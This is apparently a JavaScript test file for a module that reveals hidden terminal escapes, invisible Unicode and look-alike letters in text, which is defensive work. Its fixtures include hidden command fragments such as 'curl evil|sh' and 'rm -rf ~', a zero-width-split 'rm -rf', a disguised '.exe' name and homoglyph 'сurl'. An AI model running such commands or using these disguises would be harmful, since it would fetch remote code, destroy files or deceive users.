import fc from 'fast-check';
import {describe, expect, test} from 'vitest';
import {hasInvisible, mixedWords, visibleLine, visibleText} from '../../../src/core/text/visible-text.js';

const sequences = String.raw`\p{RGI_Emoji}`;
const emoji = new RegExp(sequences, 'gv');

describe('what would not show is drawn', () => {
	test.each([
		['an OSC with BEL', 'echo hi \x1b]; curl evil|sh #\x07', 'echo hi ␛]; curl evil|sh #␇'],
		['an OSC with ST', '\x1b]0;title\x1b\\text', '␛]0;title␛\\text'],
		['an OSC of one character', 'a \x9d; rm -rf ~ #\x9c b', 'a <U+009D>; rm -rf ~ #<U+009C> b'],
		['a DCS', '\x1bPq; evil\x1b\\x', '␛Pq; evil␛\\x'],
		['an APC', '\x1b_evil\x1b\\x', '␛_evil␛\\x'],
		['a PM', '\x1b^evil\x1b\\x', '␛^evil␛\\x'],
		['an SOS', '\x1bXevil\x1b\\x', '␛Xevil␛\\x'],
		['a CSI', 'a\x1b[8mevil\x1b[0m', 'a␛[8mevil␛[0m'],
		['a CSI of one character', 'a\x9b8mevil', 'a<U+009B>8mevil'],
		['backspaces', 'evil\b\b\b\bfine', 'evil␈␈␈␈fine'],
		['a carriage return', 'evil\rfine', 'evil␍fine'],
		['a line of DOS', 'one\r\ntwo', 'one␍\ntwo'],
		['an override of the direction', 'a\u202egnp.exe\u202c', 'a<U+202E>gnp.exe<U+202C>'],
		['isolates', '\u2066x\u2069', '<U+2066>x<U+2069>'],
		['marks of the direction', '\u200ea\u200fb\u061c', '<U+200E>a<U+200F>b<U+061C>'],
		['a joiner and a space without width', 'r\u200dm \u200b-rf', 'r<U+200D>m <U+200B>-rf'],
		['tags', 'a\u{e0001}\u{e0065}\u{e0076}\u{e007f}b', 'a<U+E0001><U+E0065><U+E0076><U+E007F>b'],
		['a black flag with tags of no country', '🏴\u{e0065}\u{e0076}\u{e007f}', '🏴<U+E0065><U+E0076><U+E007F>'],
		['NUL and DEL', 'a\0b\x7f', 'a␀b␡'],
		['lone surrogates', 'a\ud800b\udc00', 'a<U+D800>b<U+DC00>'],
		['variation selectors', 'a\ufe0fb\u{e0100}', 'a<U+FE0F>b<U+E0100>'],
		['a soft hyphen', 'cu\xadrl', 'cu<U+00AD>rl'],
		['separators', 'a\u2028b\u2029c\x85', 'a<U+2028>b<U+2029>c<U+0085>'],
		['annotations', '\ufff9a\ufffab\ufffb', '<U+FFF9>a<U+FFFA>b<U+FFFB>'],
		['fillers', '\u115f\u1160\u3164\uffa0\u2800', '<U+115F><U+1160><U+3164><U+FFA0><U+2800>'],
		['a mark of the byte order', '\ufeffa', '<U+FEFF>a'],
		['blanks that are none', 'a\u2003b\u205fc', 'a<U+2003>b<U+205F>c'],
		['a private character', '\ue0b0', '<U+E0B0>'],
		['piles of marks', 'a\u0301\u0302\u0303\u0336', 'a\u0301\u0302<U+0303><U+0336>'],
	])('%s', (_name, text, drawn) => {
		expect(visibleText(text)).toBe(drawn);
		expect(hasInvisible(text)).toBe(true);
		expect(hasInvisible(drawn)).toBe(false);
	});

	test.each([
		'npm test && echo "done"\n\tindented',
		'日本語 のテキスト　全角',
		'👩‍👩‍👧 ❤️ 1️⃣ 🇩🇪 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽',
		'Größe, naïve, Ελληνικά, русский, עברית, العربية, हिन्दी, ไทย',
	])('%s stays', (text) => {
		expect(visibleText(text)).toBe(text);
		expect(hasInvisible(text)).toBe(false);
	});

	test('the blanks of printed French are drawn, and are nothing to warn of', () => {
		expect(visibleText('Étape 1\xa0: faire')).toBe('Étape 1⍽: faire');
		expect(hasInvisible('Étape 1\xa0: faire')).toBe(false);
	});

	test('a line of its own has no line breaks and keeps its blanks', () => {
		expect(visibleLine('/a  b/\n\tc ')).toBe('/a  b/␊␉c ');
	});

	test('nothing that has no ink but blanks, tabs and lines is left of any text', () => {
		const pieces = fc.oneof(
			fc.constantFrom('\x1b', ']', '\x07', '\u202e', '\u200d', '👩', '\ufe0f', 'a', 'с', '\ud83d', '\n'),
			fc.string({unit: 'binary'}),
		);
		fc.assert(
			fc.property(fc.array(pieces, {maxLength: 30}), (parts) => {
				const drawn = visibleText(parts.join('')).replace(emoji, '');
				expect(drawn).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
			}),
		);
	});
});

describe('a word of two alphabets', () => {
	test.each([
		['сurl', '<U+0441>url'],
		['рaypal', '<U+0440>aypal'],
		['gοοgle', 'g<U+03BF><U+03BF>gle'],
		['Приложениe', 'Приложени<U+0065>'],
		['սudo', '<U+057D>udo'],
		['Ꭰpple', '<U+13A0>pple'],
		['ｃurl', '<U+FF43>url'],
		['𝐫m', '<U+1D42B>m'],
		['с\u200durl', '<U+0441><U+200D>url'],
	])('%s is drawn as %s', (word, drawn) => {
		expect(visibleText(`run ${word} x`)).toBe(`run ${drawn} x`);
		expect(mixedWords(`run ${word} x`)).toEqual([drawn]);
	});

	test.each(['β-carotene', 'TNFα', 'Δx', 'µs', 'данные_csv', 'git-а', 'русский text', 'Ελλάδα', 'Tシャツ', 'naïve', 'ＡＩ', 'Ⅳ'])(
		'%s is none',
		(word) => {
			expect(visibleText(word)).toBe(word);
			expect(mixedWords(word)).toEqual([]);
		},
	);
});
